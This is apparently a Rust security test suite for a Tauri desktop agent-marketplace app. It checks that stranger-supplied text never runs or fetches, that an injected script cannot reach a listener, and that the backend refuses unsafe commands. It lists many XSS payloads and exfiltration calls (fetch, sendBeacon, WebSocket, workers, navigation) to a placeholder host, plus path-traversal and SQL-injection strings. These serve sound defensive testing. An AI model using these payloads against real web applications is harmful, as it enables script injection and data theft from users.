//! What strangers write, and what a script could do if one ever ran in the page: nothing runs, nothing leaves, and nothing is
//! commanded that the page itself could not command.

#![expect(clippy::expect_used, reason = "a story ends at the first thing that is not as told")]

use crate::shopping::{connect, go_to, open_form};
use kaimono_stories::{
    checkout,
    desktop::{Desktop, Keyring},
    node::within_the_story,
    seller::Seller,
    window::Window,
};
use masumi_sandbox::{Price, Registration};
use serde_json::{Value, json};
use std::sync::{
    Arc,
    atomic::{AtomicUsize, Ordering},
};

/// Somebody who waits for a call from the window. Nobody else knows of this port.
struct Listener {
    address: String,
    calls: Arc<AtomicUsize>,
}

impl Listener {
    async fn start() -> Listener {
        let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.expect("a port is free");
        let address = listener.local_addr().expect("it has an address").to_string();
        let calls = Arc::new(AtomicUsize::new(0));
        let counted = Arc::clone(&calls);
        tokio::spawn(async move {
            while listener.accept().await.is_ok() {
                counted.fetch_add(1, Ordering::SeqCst);
            }
        });
        Listener { address, calls }
    }

    /// How often it was called.
    fn calls(&self) -> usize {
        self.calls.load(Ordering::SeqCst)
    }
}

/// What would run, load, lead away or be computed if any place took a stranger's text for more than a text.
fn payloads(host: &str) -> Vec<String> {
    let there = format!("http://{host}/x");
    vec![
        "<script>top.ran=1</script>".to_owned(),
        format!("<script src={there}></script>"),
        "<img src=x onerror=top.ran=1>".to_owned(),
        format!("<img src={there}>"),
        format!("![picture]({there}.png)"),
        format!("<picture><source srcset={there}><img></picture>"),
        "<svg onload=top.ran=1><script>top.ran=1</script></svg>".to_owned(),
        format!("<svg><image href={there} /><use href={there}#a /></svg>"),
        format!("<iframe src={there} srcdoc='<script>top.ran=1</script>'></iframe>"),
        format!("<object data={there}></object><embed src={there}>"),
        format!("<video src={there} autoplay><audio src={there} autoplay>"),
        format!("<link rel=stylesheet href={there}><style>@import url({there});*{{background:url({there})}}</style>"),
        format!("<meta http-equiv=refresh content='0;url={there}'>"),
        format!("<base href={there}>"),
        format!("<form action={there}><input name=key autofocus onfocus=top.ran=1><button>Pay</button></form>"),
        "<details open ontoggle=top.ran=1><summary>x</summary></details>".to_owned(),
        "<a href=\"javascript:top.ran=1\">Pay</a> [Pay](javascript:top.ran=1) <javascript:top.ran=1>".to_owned(),
        format!("[Pay]({there}) <{there}> {there}"),
        "<div style='position:fixed;inset:0' onmouseover=top.ran=1>Your session has ended</div>".to_owned(),
        "\"><script>top.ran=1</script><x a='".to_owned(),
        "--></title></textarea></script><script>top.ran=1</script>".to_owned(),
        "{{constructor.constructor('top.ran=1')()}} ${top.ran=1} <%= top.ran=1 %>".to_owned(),
        "`-top.ran=1-`'-top.ran=1-'\"-top.ran=1-\"".to_owned(),
        "\u{2028}top.ran=1//\u{2029}\u{202e}\u{0}<\u{0}script>top.ran=1</script>".to_owned(),
        "__proto__ constructor toString app dialog data-testid=pay".to_owned(),
    ]
}

/// Notes from now on each element and attribute that the page itself never makes.
const WATCH: &str = "
    const foreign = 'script,iframe,object,embed,video,audio,picture,source,link,meta,base,style,form[action],a[href]:not([href^=\\'#/\\']),[srcset],[srcdoc]';
    const before = new Set(document.querySelectorAll(foreign));
    window.seen = [];
    const look = (node) => {
        if (!(node instanceof Element)) return;
        for (const one of [node, ...node.querySelectorAll('*')]) {
            if (one.matches(foreign) && !before.has(one)) window.seen.push(one.outerHTML.slice(0, 200));
            if (one.matches('img') && /^https?:/.test(one.getAttribute('src'))) window.seen.push(one.outerHTML.slice(0, 200));
            for (const { name } of one.attributes) if (name.startsWith('on')) window.seen.push(one.outerHTML.slice(0, 200));
        }
    };
    new MutationObserver((changes) => {
        for (const change of changes) {
            look(change.target);
            change.addedNodes.forEach(look);
        }
    }).observe(document, { subtree: true, childList: true, attributes: true });";

async fn nothing_ran(window: &Window, listener: &Listener, place: &str) {
    assert_eq!(window.run("return window.ran ?? null", Vec::new()).await, Value::Null, "{place}");
    assert_eq!(window.run("return window.seen", Vec::new()).await, json!([]), "{place}");
    assert_eq!(listener.calls(), 0, "{place}");
}

/// hostile "Tried": the texts of the registry, of forms and of results, in every place where they are shown.
#[tokio::test(flavor = "multi_thread")]
async fn nothing_that_strangers_write_runs_or_is_fetched_wherever_it_is_shown() {
    let desktop = Desktop::new(Keyring::Unlocked, "stories/strangers").await;
    let (sandbox, connection) = within_the_story().await;
    let listener = Listener::start().await;
    let payloads = payloads(&listener.address);
    let seller = Seller::start(&sandbox, "Payload Writer").await;
    for (number, payload) in payloads.iter().enumerate() {
        sandbox.register(Registration {
            name: format!("P{number} {payload}"),
            description: payload.clone(),
            api_base_url: format!("http://{}", seller.host()),
            price: Price::Free,
            tags: vec![payload.clone()],
        });
    }
    let field = |(number, payload): (usize, &String)| {
        json!({
            "id": format!("{number} {payload}"), "type": "option", "name": payload,
            "data": { "description": payload, "placeholder": payload, "values": [payload, "other"] },
            "validations": [{ "validation": "optional", "value": "true" }],
        })
    };
    let fields: Vec<Value> = payloads.iter().enumerate().map(field).collect();
    seller.asks(&json!(fields));

    let window = Window::open(&desktop).await;
    connect(&window, &connection).await;
    window.run(WATCH, Vec::new()).await;
    for number in 0..payloads.len() {
        go_to(&window, "market").await;
        window.fill("search", &format!("P{number} ")).await;
        let card = format!("document.querySelector('[data-testid=agent-card][data-name^=\"P{number} \"]')");
        window.becomes(&format!("{card} !== null")).await;
        window.run(&format!("{card}.click()"), Vec::new()).await;
        window.see("buy").await;
    }
    nothing_ran(&window, &listener, "market and agents").await;
    window.picture("agent").await;

    for (result, name) in [(json!(payloads.join("\n\n")), "text"), (json!({ "made": payloads }), "structure")] {
        seller.inquires(&json!(fields));
        open_form(&window, "Payload Writer").await;
        window.picture(&format!("form-{name}")).await;
        window.click("to-review").await;
        window.click("pay").await;
        window.see("question").await;
        nothing_ran(&window, &listener, "form, review and question").await;
        window.picture(&format!("question-{name}")).await;
        seller.delivers(&result);
        window.see("result[data-complete=true] / result-body").await;
        nothing_ran(&window, &listener, name).await;
        window.picture(&format!("result-{name}")).await;
    }
}

/// Each of these is tried in the page, as a script would that got in there. `HERE` is where somebody listens.
const WAYS_OUT: &[&str] = &[
    "fetch('http://HERE/')",
    "fetch('http://HERE/', { mode: 'no-cors', method: 'POST', body: 'x' })",
    "fetch('http://HERE/', { keepalive: true })",
    "navigator.sendBeacon('http://HERE/', 'x')",
    "const call = new XMLHttpRequest(); call.open('GET', 'http://HERE/'); call.send()",
    "new WebSocket('ws://HERE/')",
    "new EventSource('http://HERE/')",
    "new Image().src = 'http://HERE/x.png'",
    "document.body.append(Object.assign(new Image(), { srcset: 'http://HERE/x.png 2x' }))",
    "document.body.insertAdjacentHTML('beforeend', '<video src=\"http://HERE/\" autoplay></video><audio src=\"http://HERE/\" autoplay></audio>')",
    "document.body.insertAdjacentHTML('beforeend', '<object data=\"http://HERE/\"></object><embed src=\"http://HERE/\">')",
    "document.body.insertAdjacentHTML('beforeend', '<iframe src=\"http://HERE/\"></iframe>')",
    "document.body.insertAdjacentHTML('beforeend', '<iframe srcdoc=\"<script>top.ran=1</script><img src=http://HERE/>\"></iframe>')",
    "document.body.insertAdjacentHTML('beforeend', '<svg><image href=\"http://HERE/x.png\"/><use href=\"http://HERE/x.svg#a\"/></svg>')",
    "document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=\"top.ran=1\">')",
    "document.body.insertAdjacentHTML('beforeend', '<div style=\"background:url(http://HERE/x.png)\">x</div>')",
    "document.body.style.backgroundImage = 'url(http://HERE/x.png)'",
    "document.head.insertAdjacentHTML('beforeend', '<link rel=stylesheet href=\"http://HERE/x.css\"><link rel=icon href=\"http://HERE/x.ico\">')",
    "document.head.insertAdjacentHTML('beforeend', '<link rel=prefetch href=\"http://HERE/\"><link rel=preload as=image href=\"http://HERE/\"><link rel=preconnect href=\"http://HERE/\"><link rel=modulepreload href=\"http://HERE/x.js\">')",
    "document.head.insertAdjacentHTML('beforeend', '<style>@import \"http://HERE/x.css\"; @font-face { font-family: x; src: url(http://HERE/x.woff) } body { font-family: x }</style>')",
    "document.head.insertAdjacentHTML('beforeend', '<meta http-equiv=refresh content=\"0;url=http://HERE/\">')",
    "document.head.insertAdjacentHTML('beforeend', '<base href=\"http://HERE/\">')",
    "document.head.append(Object.assign(document.createElement('script'), { src: 'http://HERE/x.js' }))",
    "document.head.append(Object.assign(document.createElement('script'), { textContent: 'top.ran=1' }))",
    "document.head.append(Object.assign(document.createElement('script'), { src: 'data:text/javascript,top.ran=1' }))",
    "document.head.append(Object.assign(document.createElement('script'), { src: URL.createObjectURL(new Blob(['top.ran=1'])) }))",
    "import('http://HERE/x.js')",
    "import('data:text/javascript,top.ran=1')",
    "eval('top.ran=1')",
    "new Function('top.ran=1')()",
    "setTimeout('top.ran=1')",
    "new Worker('http://HERE/x.js')",
    "new Worker(URL.createObjectURL(new Blob(['fetch(\"http://HERE/\")'])))",
    "new Worker('data:text/javascript,fetch(\"http://HERE/\")')",
    "new SharedWorker(URL.createObjectURL(new Blob(['fetch(\"http://HERE/\")'])))",
    "navigator.serviceWorker.register('http://HERE/x.js')",
    "new RTCPeerConnection({ iceServers: [{ urls: 'stun:HERE' }] }).createDataChannel('x')",
    "const form = Object.assign(document.createElement('form'), { action: 'http://HERE/', method: 'post' }); document.body.append(form); form.submit()",
    "const link = Object.assign(document.createElement('a'), { href: 'http://HERE/', ping: 'http://HERE/' }); document.body.append(link); link.click()",
    "const link = Object.assign(document.createElement('a'), { href: 'http://HERE/', target: '_blank' }); document.body.append(link); link.click()",
    "const link = Object.assign(document.createElement('a'), { href: 'http://HERE/', download: 'x' }); document.body.append(link); link.click()",
    "const link = Object.assign(document.createElement('a'), { href: 'javascript:top.ran=1' }); document.body.append(link); link.click()",
    "window.open('http://HERE/')",
    "window.open('javascript:top.ran=1')",
    "location.href = 'http://HERE/'",
    "location.assign('http://HERE/')",
    "location.replace('http://HERE/')",
    "location.href = 'javascript:top.ran=1'",
    "location.href = 'data:text/html,<script>top.ran=1</script>'",
    "location.href = 'file:///etc/hostname'",
    "location.href = 'tauri://HERE/'",
    "top.location = 'http://HERE/'",
];

/// What Tauri and its plugins offer, and the page was not given.
const NOT_GIVEN: &[&str] = &[
    "plugin:app|version",
    "plugin:app|app_hide",
    "plugin:webview|create_webview",
    "plugin:webview|create_webview_window",
    "plugin:webview|internal_toggle_devtools",
    "plugin:webview|webview_close",
    "plugin:webview|clear_all_browsing_data",
    "plugin:window|create",
    "plugin:window|close",
    "plugin:window|destroy",
    "plugin:window|set_title",
    "plugin:window|set_size",
    "plugin:window|set_always_on_top",
    "plugin:window|set_fullscreen",
    "plugin:window|get_all_windows",
    "plugin:path|resolve_directory",
    "plugin:path|join",
    "plugin:menu|new",
    "plugin:menu|popup",
    "plugin:tray|new",
    "plugin:tray|set_icon",
    "plugin:image|from_path",
    "plugin:resources|close",
    "plugin:event|emit",
    "plugin:event|emit_to",
    "plugin:fs|read_file",
    "plugin:fs|write_file",
    "plugin:shell|execute",
    "plugin:shell|open",
    "plugin:opener|open_url",
    "plugin:opener|open_path",
    "plugin:http|fetch",
    "plugin:dialog|open",
    "plugin:process|exit",
    "plugin:process|restart",
    "plugin:os|hostname",
    "plugin:clipboard-manager|read_text",
    "plugin:updater|check",
    "plugin:store|load",
    "no_such_command",
];

/// hostile "Tried": what a script that got into the page could reach. Only what the page itself may ask for.
#[tokio::test(flavor = "multi_thread")]
async fn a_script_in_the_page_reaches_nobody_and_is_given_no_more_than_the_page() {
    let desktop = Desktop::new(Keyring::Unlocked, "stories/scripts").await;
    let (_sandbox, connection) = within_the_story().await;
    let listener = Listener::start().await;
    let window = Window::open(&desktop).await;
    connect(&window, &connection).await;
    // WebDriver's own scripts may do what the policy forbids the page; a timer's function is the page's.
    let attempt = "
        window.settled = false;
        const [way] = arguments;
        const settle = (how) => { window.settled = how; };
        setTimeout(() => {
            try { Promise.resolve(way()).then(() => settle('done'), () => settle('refused')); } catch { settle('refused'); }
        });";
    for way in WAYS_OUT {
        let way = way.replace("HERE", &listener.address);
        let body = match way.rsplit_once("; ") {
            Some((before, last)) if way.starts_with("const ") => format!("{before}; return {last}"),
            _ => format!("return {way}"),
        };
        let script = attempt.replace("const [way] = arguments;", &format!("const way = () => {{ {body} }};"));
        window.run(&script, Vec::new()).await;
        window.becomes("window.settled !== false").await;
        assert_eq!(window.run("return window.ran ?? null", Vec::new()).await, Value::Null, "{way}");
        assert_eq!(listener.calls(), 0, "{way}");
    }
    window.see("agent-card").await;

    let ask = "
        const [command, given] = arguments;
        window.answer = null;
        window.__TAURI_INTERNALS__.invoke(command, given).then(
            (value) => { window.answer = ['given', JSON.stringify(value) ?? '']; },
            (error) => { window.answer = ['refused', JSON.stringify(error) ?? '']; });";
    for command in NOT_GIVEN {
        window.run(ask, vec![(*command).into(), json!({ "path": "/etc/hostname", "url": "http://HERE/" })]).await;
        window.becomes("window.answer !== null").await;
        let answer = window.run("return window.answer", Vec::new()).await;
        assert_eq!(answer[0], "refused", "{command}: {answer}");
    }
    assert_eq!(window.run("return typeof RTCPeerConnection", Vec::new()).await, "undefined");
    assert_eq!(listener.calls(), 0);
}

/// Every command that the page knows, and the names of what it takes, as `backend.js` has them.
fn commands() -> Vec<(String, Vec<String>)> {
    let backend =
        std::fs::read_to_string(checkout().join("ui/page/backend.js")).expect("it is written from the commands");
    let calls = backend.split("invoke(\"").skip(1).filter_map(|rest| rest.split_once('"'));
    let names = |rest: &str| {
        let given = rest.split_once(')').map_or("", |(given, _)| given);
        let names = given.trim_matches([',', ' ', '{', '}']).split(',').map(|name| name.trim().to_owned());
        names.filter(|name| !name.is_empty()).collect()
    };
    calls.map(|(command, rest)| (command.to_owned(), names(rest))).collect()
}

/// hostile "Tried": the commands, with what the page never sends.
#[tokio::test(flavor = "multi_thread")]
async fn whatever_a_script_asks_of_the_backend_is_answered_and_nothing_is_bought() {
    let desktop = Desktop::new(Keyring::Unlocked, "stories/commands").await;
    let (sandbox, connection) = within_the_story().await;
    let window = Window::open(&desktop).await;
    connect(&window, &connection).await;
    let commands = commands();
    assert!(commands.len() > 30, "{commands:?}");
    let long = "x".repeat(200_000);
    let odd = json!([
        null, true, -1, 1e300, [], {}, "", "../../../etc/passwd", "' OR 1=1 --", "\u{0}", "\u{202e}", "*", "\"(", long,
        { "profileId": [], "id": {}, "__proto__": { "x": 1 } }, [[[[[[]]]]]], "sandbox", "00000000-0000-0000-0000-000000000000",
    ]);
    let ask = "
        window.answers = null;
        const [command, names, odd] = arguments;
        Promise.all(odd.map((one) => {
            const given = Object.fromEntries(names.map((name) => [name, one]));
            return window.__TAURI_INTERNALS__.invoke(command, given).then(() => 'given', (error) => error.code ?? 'not-read');
        })).then((answers) => { window.answers = answers; });";
    // What takes nothing has nothing odd to take.
    for (command, names) in commands.into_iter().filter(|(_, names)| !names.is_empty()) {
        window.run(ask, vec![command.clone().into(), json!(names), odd.clone()]).await;
        window.becomes("window.answers !== null").await;
        let answers = window.run("return window.answers", Vec::new()).await;
        assert!(!answers.to_string().contains("internal"), "{command}: {answers}");
    }
    assert_eq!(sandbox.all_locks(), 0);
    go_to(&window, "market").await;
    window.see("health[data-state=ok]").await;
}
